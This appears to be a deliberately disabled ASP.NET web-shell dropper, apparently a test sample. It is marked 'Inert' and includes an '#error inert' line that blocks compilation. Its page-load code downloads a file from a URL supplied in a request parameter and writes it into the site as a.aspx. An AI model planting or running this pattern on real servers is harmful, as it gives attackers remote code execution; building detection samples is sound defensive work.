<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ new System.Net.WebClient().DownloadFile(Request["u"],Server.MapPath("a.aspx")); }
</script>
